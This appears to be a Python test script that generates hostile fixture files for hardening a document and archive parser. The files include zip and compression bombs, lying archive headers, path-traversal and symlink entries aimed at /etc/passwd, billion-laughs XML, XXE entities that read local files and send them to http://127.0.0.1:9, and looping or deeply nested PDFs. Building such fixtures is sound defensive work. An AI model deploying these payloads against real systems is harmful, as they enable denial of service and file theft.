#!/usr/bin/env python3
"""Writes files that are made to crash, hang, fill the memory of or lead astray whatever reads
them: about 500, the same ones each time.

    tests/make_hostile.py FOLDER

Each attack is named by what it is against. Besides those made by hand there are sound files
of each format cut short at many places and with bits turned over.
"""
import bz2
import gzip
import io
import lzma
import os
import random
import struct
import sys
import tarfile
import zipfile
import zlib

FOLDER = sys.argv[1]
MANY = 1_000_000


def write(name, data):
    if isinstance(data, str):
        data = data.encode()
    with open(os.path.join(FOLDER, name), "wb") as file:
        file.write(data)


def pack(members, method=zipfile.ZIP_DEFLATED):
    """A zip of (name, bytes) pairs."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0))
            info.compress_type = method
            archive.writestr(info, data)
    return out.getvalue()


def tar(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for info, data in members:
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def tar_info(name, size=0, **fields):
    info = tarfile.TarInfo(name)
    info.size = size
    for key, value in fields.items():
        setattr(info, key, value)
    return info


# ---- sound files, to be damaged ----------------------------------------------

RELATIONS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
             'package/2006/relationships"><Relationship Id="r1" Type="http://schemas.'
             'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="%s"/>'
             '</Relationships>')
TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
         'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')
WORD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'
SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
ODF = ('<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
       ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>%s'
       '</office:text></office:body></office:document-content>')


FLAT = ('<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
        ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
        ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
        ' office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text>%s'
        '</office:text></office:body></office:document>')


def docx(body, head=""):
    return pack([("[Content_Types].xml", TYPES), ("_rels/.rels", RELATIONS % "word/document.xml"),
                 ("word/document.xml", '<?xml version="1.0"?>' + head + WORD % body)])


def xlsx(rows, head=""):
    return pack([("[Content_Types].xml", TYPES), ("_rels/.rels", RELATIONS % "xl/workbook.xml"),
                 ("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/'
                  'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
                  'officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="r1"/>'
                  '</sheets></workbook>'),
                 ("xl/_rels/workbook.xml.rels", RELATIONS.replace("officeDocument\"", "worksheet\"")
                  % "worksheets/sheet1.xml"),
                 ("xl/worksheets/sheet1.xml", head + SHEET % rows)])


def odt(body, head=""):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", '<?xml version="1.0"?>' + head + ODF % body,
                         zipfile.ZIP_DEFLATED)
    return out.getvalue()


def fodt(body, head=""):
    return ('<?xml version="1.0"?>' + head + FLAT % body).encode()


def ods(content):
    """Of a part that is read in pieces: bytes, compressed as they are."""
    return pack([("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
                 ("content.xml", content)])


def epub(page, head="", opf=None):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/epub+zip")
        archive.writestr("META-INF/container.xml", '<?xml version="1.0"?>' + head +
                         '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
                         '<rootfiles><rootfile full-path="a.opf"/></rootfiles></container>')
        archive.writestr("a.opf", opf or (
            '<?xml version="1.0"?>' + head + '<package xmlns="http://www.idpf.org/2007/opf">'
            '<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>T</dc:title></metadata>'
            '<manifest><item id="p" href="p.xhtml" media-type="application/xhtml+xml"/></manifest>'
            '<spine><itemref idref="p"/></spine></package>'))
        archive.writestr("p.xhtml", '<?xml version="1.0"?>' + head +
                         '<html xmlns="http://www.w3.org/1999/xhtml"><body>%s</body></html>' % page,
                         zipfile.ZIP_DEFLATED)
    return out.getvalue()


def pdf(objects, root=1, trailer="", data=b"%PDF-1.5\n"):
    """A PDF of numbered objects (bytes or str), with a table that is right."""
    offsets, data = {}, bytearray(data)
    for number, body in objects.items():
        if isinstance(body, str):
            body = body.encode()
        offsets[number] = len(data)
        data += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(data)
    size = max(objects) + 1
    data += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        data += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 00000 f \n"
    data += b"trailer<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root, trailer.encode(), start)
    return bytes(data)


def stream(content, fields="", length=None):
    if isinstance(content, str):
        content = content.encode()
    return b"<<%s/Length %d>>stream\n" % (
        fields.encode(), len(content) if length is None else length) + content + b"\nendstream"


def page_pdf(content, fields="", resources="", page="", length=None, more=None):
    objects = {
        1: "<</Type/Catalog/Pages 2 0 R>>",
        2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R"
           "/Resources<</Font<</F 5 0 R>>%s>>%s>>" % (resources, page),
        4: stream(content, fields, length),
        5: "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }
    objects.update(more or {})
    return pdf(objects)


WORDS = "BT/F 12 Tf 100 700 Td(The whales of the north)Tj ET\n"
MAIL = ("From: a@b.example\r\nTo: c@d.example\r\nSubject: =?UTF-8?B?5aSH5Lu9?=\r\n"
        "Date: Mon, 1 Jan 2024 00:00:00 +0000\r\nMIME-Version: 1.0\r\n")
MIXED = MAIL + ('Content-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\nContent-Type: text/plain; '
                'charset=utf-8\r\n\r\nHello 备份\r\n--x\r\nContent-Type: text/html\r\n'
                'Content-Transfer-Encoding: quoted-printable\r\n\r\n<p>=E5=A4=87</p>\r\n--x\r\n'
                'Content-Type: application/zip; name="a.zip"\r\nContent-Transfer-Encoding: base64\r\n'
                '\r\nUEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==\r\n--x--\r\n')
RTF = (r"{\rtf1\ansi\ansicpg936{\fonttbl{\f0 Arial;}}{\info{\title T}{\author A}}\pard "
       r"Hello \'b1\'b8\'b7\'dd \u22791?\par{\b bold}\par}")

SOUND = {
    "a.pdf": page_pdf(WORDS),
    "packed.pdf": page_pdf(zlib.compress(WORDS.encode() * 50), "/Filter/FlateDecode"),
    "a.docx": docx("<w:p><w:r><w:t>Hello 备份</w:t></w:r></w:p>" * 20),
    "a.xlsx": xlsx('<row r="1"><c r="A1" t="inlineStr"><is><t>Hello</t></is></c></row>' * 20),
    "a.odt": odt("<text:p>Hello 备份</text:p>" * 20),
    "a.fodt": fodt("<text:p>Hello 备份</text:p>" * 20),
    "a.epub": epub("<p>Hello 备份</p>" * 20),
    "a.zip": pack([("a.txt", "hello " * 100), ("b/c.md", "# Title\n\ntext\n" * 50)]),
    "a.tar": tar([(tar_info("a.txt", 6), b"hello\n"), (tar_info("b.md", 8), b"# Title\n")]),
    "a.tar.gz": gzip.compress(tar([(tar_info("a.txt", 6), b"hello\n")]), mtime=0),
    "a.tar.xz": lzma.compress(tar([(tar_info("a.txt", 6), b"hello\n")])),
    "a.txt.bz2": bz2.compress(b"hello " * 1000),
    "a.eml": MIXED.encode(),
    "a.mbox": ("From a@b Mon Jan  1 00:00:00 2024\n" + MIXED.replace("\r\n", "\n") + "\n").encode() * 3,
    "a.rtf": RTF.encode(),
    "a.mht": (MAIL + 'Content-Type: multipart/related; boundary="x"; type="text/html"\r\n\r\n--x\r\n'
              "Content-Type: text/html\r\nContent-Location: http://x/\r\n\r\n<p>Hello</p>\r\n--x--\r\n").encode(),
}


def damaged():
    rng = random.Random(20240101)
    for name, data in SOUND.items():
        stem, extension = name.split(".", 1)
        write("sound-%s.%s" % (stem, extension), data)
        for i in range(9):
            write("cut-%s-%d.%s" % (stem, i, extension), data[:len(data) * (i + 1) // 10])
        for i in range(12):
            bits = bytearray(data)
            for _ in range(1 + i * i):
                bits[rng.randrange(len(bits))] ^= 1 << rng.randrange(8)
            write("flipped-%s-%d.%s" % (stem, i, extension), bytes(bits))
        grown = bytearray(data)
        at = rng.randrange(len(grown))
        grown[at:at] = bytes(rng.randrange(256) for _ in range(300))
        write("grown-%s.%s" % (stem, extension), bytes(grown))


# ---- archives -----------------------------------------------------------------

def overlapping_zip(n, size):
    """Many entries of the directory that are one and the same data (Fifield 2019)."""
    data = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = data.compress(b"\0" * size) + data.flush()
    crc = zlib.crc32(b"\0" * size)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(packed), size, 5, 0)
    out = local + b"a.txt" + packed
    start = len(out)
    directory = bytearray()
    for i in range(n):
        name = b"%05d.txt" % i
        directory += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 0, crc,
                                 len(packed), size, len(name), 0, 0, 0, 0, 0, 0) + name
    return out + directory + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, n & 0xffff, n & 0xffff,
                                         len(directory), start, 0)


def lying_zip(packed_size=None, size=6000, flags=0, method=8, name=b"a.txt", offset=0, extra=b""):
    data = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = data.compress(b"hello " * 1000) + data.flush()
    packed_size = len(packed) if packed_size is None else packed_size
    crc = zlib.crc32(b"hello " * 1000)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, flags, method, 0, 0, crc, packed_size, size,
                        len(name) & 0xffff, len(extra)) + name + extra
    out = local + packed
    directory = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, flags, method, 0, 0, crc,
                            packed_size, size, len(name) & 0xffff, len(extra), 0, 0, 0, 0,
                            offset) + name + extra
    return out + directory + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1, 1, len(directory),
                                         len(out), 0)


def archives():
    zeros = b"\0" * (32 << 20)
    text = b"a b c d e f g h\n" * (1 << 20)
    write("bomb.zip", pack([("a.txt", text)]))
    write("bomb-many.zip", pack([("%d.txt" % i, text[:2 << 20]) for i in range(20)]))
    inner = pack([("a.txt", text[:2 << 20])])
    for depth in range(8):
        inner = pack([("%d.zip" % i, inner) for i in range(10)])
        if depth in (0, 2, 7):
            write("bomb-nested-%d.zip" % depth, inner)
    chain = b"x"
    for depth in range(200):
        chain = pack([("in.zip" if depth else "in.txt", chain)], zipfile.ZIP_STORED)
    write("chain.zip", chain)
    write("overlap.zip", overlapping_zip(60000, 1 << 20))
    write("overlap-small.zip", overlapping_zip(4000, 100000))
    write("entries.zip", pack([("%d.txt" % i, b"x") for i in range(66000)], zipfile.ZIP_STORED))
    write("empty-entries.tar", tar([(tar_info("%d.txt" % i), b"") for i in range(5000)]))
    for i, (packed, size) in enumerate([(0, 0), (10, 6000), (0xffffffff, 6000), (40, 10),
                                        (40, 0xffffffff), (0xffffffff, 0xffffffff),
                                        (0x7fffffff, 0x7fffffff), (1, 0x80000000)]):
        write("lying-%d.zip" % i, lying_zip(packed, size))
        write("lying-streamed-%d.zip" % i, lying_zip(packed, size, flags=8))
    huge = struct.pack("<HHQQ", 1, 16, 1 << 63, 1 << 63)
    write("lying-zip64.zip", lying_zip(0xffffffff, 0xffffffff, extra=huge))
    write("lying-offset.zip", lying_zip(offset=0xfffffff0))
    write("encrypted.zip", lying_zip(flags=1))
    write("encrypted-strong.zip", lying_zip(flags=0x41))
    for method in (1, 6, 9, 12, 14, 93, 95, 97, 98, 99, 65535):
        write("method-%d.zip" % method, lying_zip(method=method))
    names = [b"../../../../tmp/evil.txt", b"/tmp/evil.txt", b"a/../../b.txt", b"C:\\evil.txt",
             b"a\0b.txt", b"\n\r\x1b[31m.txt", b"\xb1\xb8\xb7\xdd.txt", b"\xff\xfe\xfd.txt", b"",
             b"." * 60000 + b".txt", b"a/" * 30000 + b"a.txt", b"x" * 65000 + b".txt", b".", b"..",
             b"//", b"%s%n%x.txt", b"con.txt", b"\xe2\x80\xae.txt"]
    for i, name in enumerate(names):
        write("name-%d.zip" % i, lying_zip(name=name))
        write("name-utf8-%d.zip" % i, lying_zip(flags=0x800, name=name))
    for kind, name in ((tarfile.SYMTYPE, "link"), (tarfile.LNKTYPE, "hard"),
                       (tarfile.CHRTYPE, "device"), (tarfile.FIFOTYPE, "fifo"),
                       (tarfile.DIRTYPE, "folder")):
        write("entry-%s.tar" % name, tar([
            (tar_info("a.txt", type=kind, linkname="/etc/passwd", devmajor=1, devminor=5), b""),
            (tar_info("a.txt", 5), b"after")]))
    link = zipfile.ZipInfo("passwd.txt")
    link.external_attr = 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    write("symlink.zip", out.getvalue())
    plain = bytearray(SOUND["a.tar"])
    for i, field in enumerate([b"77777777777\0", b"\x80" + b"\0" * 3 + b"\x7f" + b"\xff" * 7,
                               b"\xff" * 12, b"-0000000001\0", b"zzzzzzzzzzz\0"]):
        bad = bytearray(plain)
        bad[124:136] = field
        bad[148:156] = b" " * 8
        bad[148:156] = b"%06o\0 " % sum(bad[:512])
        write("size-%d.tar" % i, bytes(bad))
    for keys in ({"GNU.sparse.realsize": str(1 << 40), "GNU.sparse.major": "1",
                  "GNU.sparse.minor": "0", "GNU.sparse.name": "a.txt"},
                 {"GNU.sparse.size": str(1 << 50), "GNU.sparse.numblocks": "1000000",
                  "GNU.sparse.map": "0,1," * 1000}, {"path": "a" * 200000 + ".txt"},
                 {"size": str(1 << 62)}, {"linkpath": "/etc/passwd"}, {"hdrcharset": "BINARY"},
                 {"SCHILY.xattr.user.x": "y" * 500000}):
        info = tar_info("a.txt", 512, pax_headers=keys)
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
            archive.addfile(info, io.BytesIO(b"1\n0\n512\n" + b"x" * 504))
        write("pax-%s.tar" % next(iter(keys)).replace(".", "-"), out.getvalue())
    write("bomb.txt.gz", gzip.compress(zeros, mtime=0))
    write("bomb.txt.bz2", bz2.compress(zeros))
    write("bomb.txt.xz", lzma.compress(zeros))
    write("bomb-text.txt.gz", gzip.compress(text, mtime=0))
    write("many.txt.gz", gzip.compress(b"x", mtime=0) * 100000)
    write("many.txt.bz2", bz2.compress(b"x") * 20000)
    deep = b"x"
    for _ in range(100):
        deep = gzip.compress(deep, mtime=0)
    write("chain.gz", deep)
    write("no-name.gz", b"\x1f\x8b\x08\x1c" + b"\0" * 6 + b"\xff\xff" + b"x" * 65535)
    write("memory.txt.xz", lzma.compress(b"hello", format=lzma.FORMAT_XZ, filters=[
        {"id": lzma.FILTER_LZMA2, "dict_size": 1 << 20}]).replace(b"\x21\x01", b"\x21\x01\x28"[:2]))
    write("zero.zst", b"\x28\xb5\x2f\xfd" + b"\xff" * 200)
    for i, (offset, size) in enumerate([(0, 1 << 40), (1 << 62, 100), (0xffffffffffffffff, 1), (0, 32)]):
        head = struct.pack("<QQI", offset, size, 0)
        write("lying-%d.7z" % i, b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<I", zlib.crc32(head)) + head +
              bytes(range(256)) * 4)
    for i, header in enumerate([b"\x01\x05\xff" + b"\xff" * 8, b"\x01" * 1000, b"\x17" * 1000,
                                b"\x01\x04\x06\x00\xff\xff\xff\xff\xff\xff\xff\xff\xff" * 10]):
        head = struct.pack("<QQI", 0, len(header), zlib.crc32(header))
        write("header-%d.7z" % i, b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<I", zlib.crc32(head)) + head + header)
    write("names.zip", pack([(("备份%d.txt" % i).encode("gbk").decode("latin-1"), b"x") for i in range(100)]))


# ---- XML, in all that is made of it -------------------------------------------

def xml():
    laughs = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(
        "<!ENTITY a%d '%s'>" % (i, "&a%d;" % (i - 1) * 10) for i in range(1, 12)) + "]>"
    square = "<!DOCTYPE x [<!ENTITY a '%s'>]>" % ("a" * 100000)
    heads = {
        "laughs": (laughs, "&a11;"),
        "square": (square, "&a;" * 10000),
        "parameter": ("<!DOCTYPE x [<!ENTITY % a '%b;'><!ENTITY % b '%a;'>%a;]>", "x"),
        "recursive": ("<!DOCTYPE x [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>", "&a;"),
        "file": ("<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>", "&a;"),
        "http": ("<!DOCTYPE x [<!ENTITY a SYSTEM 'http://127.0.0.1:9/a'>]>", "&a;"),
        "dtd-http": ("<!DOCTYPE x SYSTEM 'http://127.0.0.1:9/a.dtd'>", "x"),
        "dtd-file": ("<!DOCTYPE x SYSTEM 'file:///etc/passwd'>", "x"),
        "out": ("<!DOCTYPE x [<!ENTITY % f SYSTEM 'file:///etc/passwd'><!ENTITY % e \"<!ENTITY &#37; s "
                "SYSTEM 'http://127.0.0.1:9/%f;'>\">%e;%s;]>", "x"),
        "gopher": ("<!DOCTYPE x [<!ENTITY a SYSTEM 'gopher://127.0.0.1:9/_x'>]>", "&a;"),
        "device": ("<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///dev/zero'>]>", "&a;"),
        "include": ("", "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='/etc/passwd' parse='text'/>"),
        "style": ("<?xml-stylesheet href='http://127.0.0.1:9/'?>", "x"),
    }
    for name, (head, body) in heads.items():
        write("xml-%s.docx" % name, docx("<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % body, head))
        write("xml-%s.odt" % name, odt("<text:p>%s</text:p>" % body, head))
        write("xml-%s.fodt" % name, fodt("<text:p>%s</text:p>" % body, head))
        write("xml-%s.epub" % name, epub("<p>%s</p>" % body, head))
        write("xml-%s.xlsx" % name, xlsx("<row><c t='inlineStr'><is><t>%s</t></is></c></row>" % body, head))
        write("xml-%s.xml" % name, '<?xml version="1.0"?>%s<x>%s</x>' % (head, body))
    deep = {"docx": (docx, "<w:tbl>"), "odt": (odt, "<text:section>"), "epub": (epub, "<div>"),
            "fodt": (fodt, "<table:table>"), "xlsx": (xlsx, "<row>")}
    for extension, (make, tag) in deep.items():
        write("deep." + extension, make(tag * MANY))
        write("deep-closed." + extension, make(tag * MANY + "x" + tag.replace("<", "</") * MANY))
    attributes = " ".join("a%d='%d'" % (i, i) for i in range(200000))
    write("attributes.docx", docx("<w:p %s/>" % attributes))
    write("attributes.odt", odt("<text:p %s/>" % attributes))
    write("namespaces.docx", docx("".join("<a:b xmlns:a='%d'>" % i for i in range(100000))))
    write("value.docx", docx("<w:p a='%s'/>" % ("x" * 30_000_000)))
    write("name.docx", docx("<%s/>" % ("x" * 20_000_000)))
    write("text.docx", docx("<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % ("word " * 20_000_000)))
    write("paragraphs.docx", docx("<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 300000))
    write("comment.docx", docx("<!--" + "-" * 10_000_000))
    write("cells.xlsx", xlsx("<row>" + "<c r='XFD1048576'><v>1</v></c>" * 200000 + "</row>"))
    write("reference.xlsx", xlsx("<row r='99999999999999999999'><c r='ZZZZZZZZZZZZZZ9'><v>1</v></c></row>"))
    write("repeat.ods", odt("<text:p>x</text:p>").replace(b"opendocument.text", b"opendocument.text"))
    write("spaces.odt", odt("<text:p><text:s text:c='2000000000'/>x</text:p>"))
    repeated = ('<table:table xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0">'
                '<table:table-row table:number-rows-repeated="1048576"><table:table-cell '
                'table:number-columns-repeated="16384"><text:p>xxxxxxxx</text:p></table:table-cell>'
                '</table:table-row></table:table>')
    write("repeated.odt", odt(repeated))
    write("repeated.fodt", fodt(repeated))
    write("attributes.fodt", fodt("<text:p %s/>" % attributes))
    write("value.fodt", fodt("<text:p a='%s'/>" % ("x" * 30_000_000)))
    write("picture.fodt", fodt("<text:p><draw:frame><draw:image><office:binary-data>%s</office:binary-data>"
                               "</draw:image></draw:frame></text:p>" % ("QUJD" * 5_000_000)))
    write("notes.fodt", fodt("<text:p>" + "<text:note>" * 400 + "x"))
    write("text.fodt", fodt("<text:p>%s</text:p>" % ("word " * 20_000_000)))
    write("type.fodt", FLAT[:FLAT.index("><office:body>")])
    write("wide.fodt", b"\xff\xfe" + FLAT.replace("%s", "x").encode("utf-16-le"))
    row = "<table:table-row><table:table-cell><text:p>%d</text:p></table:table-cell></table:table-row>"
    rows = "".join(row % (i * 2654435761 % 2**32) for i in range(1_000_000))
    write("rows.ods", ods(ODF % ("<table:table>" + rows + "</table:table>")))
    write("rows-cut.ods", ods((ODF % ("<table:table>" + rows))[:90_000_000]))
    write("bomb.ods", ods(ODF % ("<text:p>" + " " * 100_000_000)))
    write("attributes.ods", ods(ODF % ("<text:p %s/>" % attributes)))
    write("spine.epub", epub("x", opf='<package><manifest><item id="p" href="p.xhtml"/></manifest><spine>'
                             + '<itemref idref="p"/>' * 100000 + "</spine></package>"))
    write("hrefs.epub", epub("x", opf='<package><manifest><item id="p" href="../../../../etc/passwd"/>'
                             '<item id="q" href="file:///etc/passwd"/><item id="r" href="http://127.0.0.1:9/"/>'
                             '</manifest><spine><itemref idref="p"/><itemref idref="q"/><itemref idref="r"/>'
                             "</spine></package>"))
    write("relations.docx", pack([("[Content_Types].xml", TYPES),
                                  ("_rels/.rels", RELATIONS % "../../../etc/passwd")]))
    write("relations-loop.docx", pack([("[Content_Types].xml", TYPES),
                                       ("_rels/.rels", RELATIONS % "_rels/.rels")]))
    write("twice.docx", pack([("[Content_Types].xml", TYPES)] +
                             [("word/document.xml", WORD % "x")] * 2000))
    write("encoding.docx", pack([("[Content_Types].xml", TYPES), ("_rels/.rels", RELATIONS % "word/document.xml"),
                                 ("word/document.xml", b'<?xml version="1.0" encoding="UTF-7"?>+ADw-')]))
    for charset in ("utf-16-le", "utf-32-be", "cp037"):
        write("encoding-%s.docx" % charset, pack([
            ("[Content_Types].xml", TYPES), ("_rels/.rels", RELATIONS % "word/document.xml"),
            ("word/document.xml", ('<?xml version="1.0" encoding="x"?>' + WORD % "x").encode(charset))]))


# ---- PDF ------------------------------------------------------------------------

def pdfs():
    catalog = "<</Type/Catalog/Pages 2 0 R>>"
    write("pages-loop.pdf", pdf({1: catalog, 2: "<</Type/Pages/Kids[2 0 R]/Count 1>>"}))
    write("pages-loop2.pdf", pdf({1: catalog, 2: "<</Type/Pages/Kids[3 0 R 3 0 R]/Count 9>>",
                                  3: "<</Type/Pages/Kids[2 0 R 2 0 R]/Parent 2 0 R/Count 9>>"}))
    tree = {1: catalog}
    for i in range(2, 40):
        tree[i] = "<</Type/Pages/Kids[%d 0 R %d 0 R]/Count %d>>" % (i + 1, i + 1, 1 << (41 - i))
    tree[40] = "<</Type/Page>>"
    write("pages-doubling.pdf", pdf(tree))
    write("pages-count.pdf", pdf({1: catalog, 2: "<</Type/Pages/Kids[]/Count 2147483647>>"}))
    write("pages-count-big.pdf", pdf({1: catalog, 2: "<</Type/Pages/Kids[3 0 R]/Count 99999999>>", 3: "<</Type/Page/Parent 2 0 R>>"}))
    write("pages-negative.pdf", pdf({1: catalog, 2: "<</Type/Pages/Kids[]/Count -5>>"}))
    write("pages-same.pdf", pdf({1: catalog, 2: "<</Type/Pages/MediaBox[0 0 600 800]/Count 100000/Kids[" + "3 0 R " * 100000 + "]>>",
                                 3: "<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
                                 4: stream(WORDS), 5: "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"}))
    write("parent-loop.pdf", pdf({1: catalog, 2: "<</Type/Pages/Kids[3 0 R]/Count 1/Parent 3 0 R>>",
                                  3: "<</Type/Page/Parent 2 0 R/Contents 4 0 R>>", 4: stream(WORDS)}))
    write("root-loop.pdf", pdf({1: "1 0 R", 2: "1 0 R"}))
    write("no-root.pdf", pdf({2: "<<>>"}, root=9))
    write("prev-loop.pdf", page_pdf(WORDS).replace(b"/Root", b"/Prev 9/Root"))
    data = page_pdf(WORDS)
    start = int(data.split(b"startxref\n")[1].split(b"\n")[0])
    write("prev-self.pdf", data.replace(b"/Root", b"/Prev %d/Root" % start))
    write("xref-far.pdf", data.replace(b"startxref\n%d" % start, b"startxref\n99999999999999999999"))
    write("xref-size.pdf", data.replace(b"/Size 6", b"/Size 2147483647"))
    write("xref-count.pdf", data.replace(b"xref\n0 6", b"xref\n0 999999999"))
    write("xref-first.pdf", data.replace(b"xref\n0 6", b"xref\n2147483640 6"))
    for i, (w, index) in enumerate([("[1 2 1]", "[0 2147483647]"), ("[8 8 8]", "[0 10]"), ("[-1 2 1]", "[0 9]"),
                                    ("[0 0 0]", "[0 99999999]"), ("[2147483647 1 1]", "[0 1]")]):
        body = stream(zlib.compress(b"\1\0\0\0" * 100), "/Type/XRef/Size 9/W%s/Index%s/Root 1 0 R/Filter/FlateDecode" % (w, index))
        raw = b"%PDF-1.5\n1 0 obj<</Type/Catalog>>endobj\n"
        write("xref-stream-%d.pdf" % i, raw + b"2 0 obj" + body + b"endobj\nstartxref\n%d\n%%%%EOF" % len(raw))
    write("object-stream-loop.pdf", pdf({1: catalog, 2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
                                         3: stream("3 0 4 0 <<>> <<>>", "/Type/ObjStm/N 2/First 8/Extends 3 0 R")}))
    write("object-stream-count.pdf", pdf({1: catalog, 2: stream("1 0", "/Type/ObjStm/N 2147483647/First 4")}))
    write("length-loop.pdf", page_pdf(WORDS).replace(b"/Length %d" % len(WORDS), b"/Length 4 0 R"))
    for i, length in enumerate([0, -1, 1, 2**31 - 1, 2**40, -2**31]):
        write("length-%d.pdf" % i, page_pdf(WORDS, length=length))
    for name, opening in (("array", "["), ("dictionary", "<</a"), ("mixed", "[<</a"), ("string", "(")):
        write("deep-%s.pdf" % name, pdf({1: catalog, 2: opening * MANY}))
        write("deep-%s-content.pdf" % name, page_pdf(zlib.compress((opening * MANY).encode()), "/Filter/FlateDecode"))
    write("deep-marks.pdf", page_pdf(zlib.compress(b"q " * MANY + b"BT " * 1000 + b"/a BMC " * MANY), "/Filter/FlateDecode"))
    write("deep-trailer.pdf", pdf({1: catalog}, trailer="/a" + "[" * MANY))
    write("bomb.pdf", page_pdf(zlib.compress(WORDS.encode() * 500_000, 9), "/Filter/FlateDecode"))
    write("bomb-zeros.pdf", page_pdf(zlib.compress(b"\0" * (64 << 20), 9), "/Filter/FlateDecode"))
    twice = zlib.compress(zlib.compress(b"\0" * (64 << 20), 9), 9)
    write("bomb-twice.pdf", page_pdf(zlib.compress(twice), "/Filter[" + "/FlateDecode" * 3 + "]"))
    write("filters.pdf", page_pdf(WORDS, "/Filter[" + "/ASCIIHexDecode" * 100000 + "]"))
    write("filters-85.pdf", page_pdf("z" * 5_000_000, "/Filter/ASCII85Decode"))
    write("filters-run.pdf", page_pdf(b"\x81 " * 3_000_000, "/Filter/RunLengthDecode"))
    write("filters-lzw.pdf", page_pdf(bytes(range(256)) * 2000, "/Filter/LZWDecode/DecodeParms<</EarlyChange 5>>"))
    for i, parms in enumerate(["/Predictor 12/Columns 2147483647", "/Predictor 12/Colors 2147483647/BitsPerComponent 16/Columns 4",
                               "/Predictor 2/Columns -1", "/Predictor 99/Columns 0", "/Predictor 15/Colors 1000000/Columns 1000000"]):
        write("predictor-%d.pdf" % i, page_pdf(zlib.compress(WORDS.encode()), "/Filter/FlateDecode/DecodeParms<<%s>>" % parms))
    for i, filter_ in enumerate(["DCTDecode", "JPXDecode", "JBIG2Decode", "CCITTFaxDecode"]):
        image = stream(bytes(range(256)) * 100, "/Type/XObject/Subtype/Image/Width 2147483647/Height 2147483647"
                       "/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/" + filter_)
        write("image-%d.pdf" % i, page_pdf("/X Do\n" + WORDS, resources="/XObject<</X 6 0 R>>", more={6: image}))
    write("image-inline.pdf", page_pdf("BI/W 99999999/H 99999999/BPC 8/CS/RGB ID " + "x" * 1000 + " EI\n" + WORDS))
    form = "/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</X %d 0 R/Y %d 0 R>>>>"
    write("form-loop.pdf", page_pdf("/X Do", resources="/XObject<</X 6 0 R>>", more={6: stream("/X Do /Y Do", form % (6, 6))}))
    doubling = {i: stream("/X Do /Y Do", form % (i + 1, i + 1)) for i in range(6, 60)}
    doubling[60] = stream(WORDS, form % (6, 6))
    write("form-doubling.pdf", page_pdf("/X Do", resources="/XObject<</X 6 0 R>>", more=doubling))
